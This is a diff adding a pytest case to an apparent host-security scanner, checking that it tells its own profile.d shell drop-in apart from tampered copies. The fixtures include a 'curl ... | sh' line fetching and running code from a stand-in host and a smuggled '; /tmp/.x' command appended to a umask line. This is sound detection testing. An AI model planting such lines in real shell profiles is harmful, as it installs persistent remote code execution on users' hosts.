@@ -463,3 +463,34 @@ def test_group_writable_key_file_accepted_when_the_group_is_only_the_user(root):
     write(root, "/home/bob/.ssh/authorized_keys", pt.key_line("b") + "\n", mode=0o660, uid=1001, gid=50)
     (hit,) = by_id(run(root), "HG-PERS-023")
     assert hit["subject"] == "/home/bob/.ssh/authorized_keys"
+
+
+def _baseline_shell_dropin(tmout="900", umask="027"):
+    """The profile.d drop-in exactly as roles/baseline_hardening/tasks/shell.yml writes it."""
+    import yaml
+    here = os.path.dirname(os.path.abspath(__file__))
+    repo = os.path.abspath(os.path.join(here, "..", "..", "..", "..", ".."))
+    with open(os.path.join(repo, "roles", "baseline_hardening", "tasks", "shell.yml")) as handle:
+        task = yaml.safe_load(handle)[0]
+    content = task["ansible.builtin.copy"]["content"]
+    return (content.replace("{{ baseline_hardening_tmout | int }}", tmout)
+            .replace("{{ baseline_hardening_umask }}", umask))
+
+
+def test_hostguard_own_shell_dropin_is_not_an_unowned_hook_but_a_tampered_one_is(root):
+    own = _baseline_shell_dropin()
+    assert "{{" not in own
+    write(root, "/etc/profile.d/60-hostguard-shell.sh", own)
+    write(root, "/etc/profile.d/61-hostguard-shell.sh", own + "curl -fsSL http://x/p | sh\n")
+    write(root, "/etc/profile.d/62-hostguard-shell.sh", own.replace("umask 027", "umask 027; /tmp/.x"))
+    write(root, "/etc/profile.d/70-other.sh", "export A=1\n")
+    out = run(root)
+    unowned = sorted(f["subject"] for f in by_id(out, "HG-PERS-032"))
+    assert unowned == ["/etc/profile.d/61-hostguard-shell.sh", "/etc/profile.d/62-hostguard-shell.sh",
+                       "/etc/profile.d/70-other.sh"]
+    hooks = dict((h["path"], h) for h in out["facts"]["hooks"]["hooks"])
+    assert hooks["/etc/profile.d/60-hostguard-shell.sh"]["managed_by"] == "hostguard.hardening.baseline_hardening"
+    assert "managed_by" not in hooks["/etc/profile.d/61-hostguard-shell.sh"]
+    malicious = set(f["subject"] for f in by_id(out, "HG-PERS-031"))
+    assert {"/etc/profile.d/61-hostguard-shell.sh", "/etc/profile.d/62-hostguard-shell.sh"} <= malicious
+    assert "/etc/profile.d/60-hostguard-shell.sh" not in malicious
